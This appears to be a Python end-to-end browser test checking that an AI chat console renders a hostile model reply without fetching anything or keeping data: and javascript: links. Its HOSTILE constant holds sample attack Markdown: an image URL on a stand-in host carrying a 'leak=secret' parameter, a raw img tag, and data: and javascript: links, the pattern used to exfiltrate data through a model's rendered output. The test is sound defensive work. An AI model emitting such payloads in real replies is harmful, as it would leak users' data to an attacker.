"""In a real browser, a hostile model reply fetches nothing and offers no data: or javascript: link.

The console runs against a simulator of this test's own, scripted to echo the prompt back
(``echo`` fault), so the reply is exactly the attacker's Markdown.
"""

from __future__ import annotations

import json
import time
import urllib.request

import pytest

from core.simulator import Simulator
from tests.e2e.test_console_browser import CHROMIUM, WAIT, _need_browser, running_console, shot

pytestmark = pytest.mark.browser
HOSTILE = ("Report ![chart](https://evil.example/pixel.png?leak=secret) "
           "[open me](data:text/html,<b>x</b>) [ref][1] <img src=https://evil.example/raw.png>\n\n"
           "[1]: javascript:alert(1)")


@pytest.fixture(scope="module")
def sim():
    with Simulator() as s:
        yield s


@pytest.fixture(scope="module")
def console(tmp_path_factory, sim):
    """`streamlit run server.py` in demo mode, calling this module's simulator."""
    _need_browser()
    tmp = tmp_path_factory.mktemp("console")
    with running_console(ANTHROPIC_BASE_URL=sim.url, TOLLGATE_LEDGER_URL=f"duckdb:///{tmp / 'ledger.duckdb'}",
                         TOLLGATE_SPOOL_PATH=str(tmp / "spool"), TOLLGATE_USERS_FILE=str(tmp / "users.yaml")) as url:
        yield url


def test_a_hostile_reply_makes_the_browser_fetch_nothing(console, sim):
    from playwright.sync_api import sync_playwright

    req = urllib.request.Request(sim.url + "/_sim/faults", method="POST", data=json.dumps(
        {"faults": ["echo"]}).encode(), headers={"content-type": "application/json"})
    urllib.request.urlopen(req, timeout=10).close()
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM,
                                    args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        fetched = []
        page.on("request", lambda r: fetched.append(r.url) if "evil.example" in r.url else None)
        page.goto(console)
        page.get_by_label("Username").fill("admin")
        page.get_by_role("textbox", name="Password").fill("tollgate-demo")
        page.get_by_role("button", name="Login").click()
        page.get_by_role("heading", name="Playground").wait_for(timeout=WAIT)
        page.get_by_test_id("stChatInputTextArea").fill(HOSTILE)
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Send", exact=True).click(timeout=WAIT)
        page.get_by_text("request req_").wait_for(timeout=WAIT)
        time.sleep(1.0)  # give any image the time to be requested
        shot(page, "render-hostile-reply")
        messages = page.get_by_test_id("stChatMessage")
        assert messages.count() == 2
        answer = messages.nth(1)
        text = answer.inner_text()
        hrefs = answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
        imgs = page.locator("[data-testid=stChatMessage] img").evaluate_all("els => els.map(e => e.src)")
        browser.close()
    assert fetched == [], fetched
    assert [src for src in imgs if "evil.example" in src] == []
    assert "image: chart" in text and "open me" in text
    assert "https://evil.example/pixel.png?leak=secret" in hrefs  # the image's URL, as a link to click
    assert all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs  # data:/javascript: gone
